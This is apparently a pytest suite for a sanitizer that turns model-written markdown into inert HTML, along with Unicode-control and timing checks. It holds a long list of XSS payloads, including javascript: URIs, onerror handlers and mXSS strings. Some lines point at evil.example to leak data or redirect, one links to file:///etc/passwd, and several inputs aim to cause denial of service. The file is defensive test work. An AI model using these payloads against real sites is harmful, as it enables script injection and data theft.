"""Text of models and strangers: nothing of it may run, load, or deceive."""

from __future__ import annotations

import re
import time
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.core.formulas import MAX_FORMULA, MAX_OPENINGS
from apps.core.text import MAX_MARKDOWN, MAX_SHOWN, model_text_html, visible_controls

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!-- never closed",
    "</textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/leak?q=secret)",
    "![x](javascript:alert(1))",
    "![](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](x)',
    '![x](x "t\\" onerror=alert(1)")',
    '[x](https://a.example "t\\" onmouseover=alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```javascript onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|2|",
    "{{7*7}} {% load x %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<div class='banner' id='main'>spoof</div>",
]

ALLOWED_TAGS = set(
    "p br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li strong em s code pre a table thead tbody tr th td span".split()  # noqa: SIM905
)


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found, self.data = [], ""

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.data += data


def _read(html):
    reader = _Reader()
    reader.feed(html)
    return reader


def _assert_inert(html):
    reader = _read(html)
    for tag, attributes in reader.found:
        assert tag in ALLOWED_TAGS, tag
        assert set(attributes) <= {"href", "title", "rel", "class", "start"}, attributes
        if "href" in attributes:
            assert attributes["href"].startswith(("http://", "https://", "mailto:", "/", "#", "?")) or (
                ":" not in attributes["href"]
            ), attributes
            assert "noopener" in attributes["rel"]
            assert "nofollow" in attributes["rel"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_comes_out_inert(payload):
    _assert_inert(model_text_html(payload))


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.startswith("<") and "\x00" not in p and ":" not in p])
def test_html_is_shown_as_text_not_dropped(payload):
    shown = _read(model_text_html(payload)).data
    assert payload.split()[0].strip("<>") in shown.replace("\n", " ")


def test_an_image_becomes_its_alt_text_and_loads_nothing():
    html = model_text_html("see ![a cat](https://evil.example/leak?q=1)")
    assert "[image: a cat]" in html
    assert "evil.example" not in html


def test_markdown_is_rendered():
    html = model_text_html("# Dear **Maria**\n\n1. one\n2. two\n\n|a|b|\n|-|-|\n|1|2|\n\n~~no~~")
    for piece in ("<h1>Dear <strong>Maria</strong></h1>", "<ol>", "<td>1</td>", "<s>no</s>"):
        assert piece in html


@pytest.mark.parametrize(
    ("text", "formulas"),
    [
        (r"It is \(O(n)\).", [r"\(O(n)\)"]),
        (r"so $x_1 * y_2$ and $$\frac{a}{b}$$ hold", ["$x_1 * y_2$", r"$$\frac{a}{b}$$"]),
        ("so\n\\[ a\n- b\n+ c \\]\nholds", ["\\[ a\n- b\n+ c \\]"]),
        ("$$\na\n$$", ["$$\na\n$$"]),
        (r"in \[ a \] place", [r"\[ a \]"]),
        ("It costs $5, or $10 with a bow; US$ 3-$4.", []),
        ("from $5 to $6, or $7 to US$", []),
        (r"`\(a\)` and `$x$`", []),
        ("```\n$$\na\n$$\n```", []),
        (r"\(never closed", []),
        (r"\(a" + "\n\n" + r"b\)", []),
        (r"\(" + "x" * MAX_FORMULA + r"\)", []),
        (r"$<script>alert(1)</script>$", ["$<script>alert(1)</script>$"]),
    ],
)
def test_a_formula_keeps_its_source_in_an_element_of_its_own(text, formulas):
    html = model_text_html(text)
    _assert_inert(html)
    found = re.findall(r'<span class="math(?: math-block)?">(.*?)</span>', html, re.DOTALL)
    assert [unescape(one) for one in found] == formulas


def test_a_text_of_very_many_formulas_shows_them_as_written():
    assert 'class="math' not in model_text_html("$a$ " * MAX_OPENINGS)


def test_a_line_break_is_kept():
    assert model_text_html("Dear Maria,\nthank you.  \nAnn").count("<br>") == 2


@pytest.mark.parametrize("hard", ["x" * (MAX_MARKDOWN + 1), "x" * 6_000, "$a$ " * MAX_OPENINGS])
def test_two_answers_side_by_side_are_shown_the_same_way(hard):
    """The plainer of two decides, whichever side it is on: neither looks better for being short."""
    short = "**Dear** Maria, $x$"
    beside, alone = model_text_html(short, hard), model_text_html(short)
    assert 'class="math"' in alone
    assert 'class="math"' not in beside
    assert beside.startswith("<pre") == model_text_html(hard, short).startswith("<pre")


def test_code_is_highlighted_with_classes_and_no_styles():
    html = model_text_html("```python\ndef f(x):\n    return 1\n```")
    assert '<span class="k">def</span>' in html
    assert "style" not in html


def test_a_language_nobody_knows_is_shown_plain():
    assert "<code>x &lt; y\n</code>" in model_text_html("```no-such-language\nx < y\n```").replace(' class=""', "")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("user\u202etxt.exe", "user⟦U+202E⟧txt.exe"),
        ("pass\u200bword", "pass⟦U+200B⟧word"),
        ("\ufeffhi", "⟦U+FEFF⟧hi"),
        ("\x1b[31mred", "⟦U+001B⟧[31mred"),
        ("a\u2066b\u2069", "a⟦U+2066⟧b⟦U+2069⟧"),
        ("ignore\U000e0041", "ignore⟦U+E0041⟧"),
        ("a\r\nb\rc", "a\nbc"),
        ("tab\tand\nline", "tab\tand\nline"),
    ],
)
def test_an_invisible_character_becomes_visible(text, shown):
    assert visible_controls(text) == shown


def test_joiners_stay_where_scripts_and_emoji_need_them():
    family, persian = "👩\u200d👧", "می\u200cخواهم"
    assert visible_controls(family) == family
    assert visible_controls(persian) == persian
    assert visible_controls("ad\u200dmin") == "ad⟦U+200D⟧min"


def test_the_empty_answer_is_named():
    assert "(empty answer)" in model_text_html("")


def test_a_long_text_is_plain_and_a_longer_one_is_cut_with_a_count():
    assert model_text_html("*a* " * MAX_MARKDOWN).startswith('<pre class="raw">')
    assert "7 more characters" in model_text_html("x" * (MAX_SHOWN + 7))


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "*a_" * 6_600,
        "> " * 10_000,
        "- " * 10_000,
        "`" * 20_000,
        "![" * 10_000,
        "<" * 20_000,
        "|" * 20_000,
        "|a" * 200 + "\n" + "|-" * 200 + "\n" + ("|x" * 200 + "\n") * 40,
        "a" * 10_000_000,
        ("[a](b" * 900 + "\n") * 4,
        "\n".join("*" * k for k in range(190)),
        "```python\n" + "'" * 7_900 + "\n```",
        "```perl\n" + "s/(" * 2_600 + "\n```",
        "".join(f"[{k}]: /x\n" for k in range(1500)),
        "$a " * 6_600,
        "$a " * 399 + "b" * 4_000,
        "\\(" * 10_000,
        "\\(" * 399 + "b" * 4_000,
        "\\[a\n" * 390 + "b" * 4_000,
    ],
    ids=range(20),
)
def test_a_hostile_text_takes_under_two_seconds(text):
    started = time.process_time()
    _assert_inert(model_text_html(text))
    assert time.process_time() - started < 2


@given(st.text(alphabet=st.sampled_from("<>\"'`&;:/()[]!#*_-|=$\n\\ ajsx\u202e"), max_size=200))
def test_whatever_is_written_stays_inert(text):
    _assert_inert(model_text_html(text))


@given(st.text(max_size=200))
def test_making_visible_twice_is_making_visible_once(text):
    once = visible_controls(text)
    assert visible_controls(once) == once
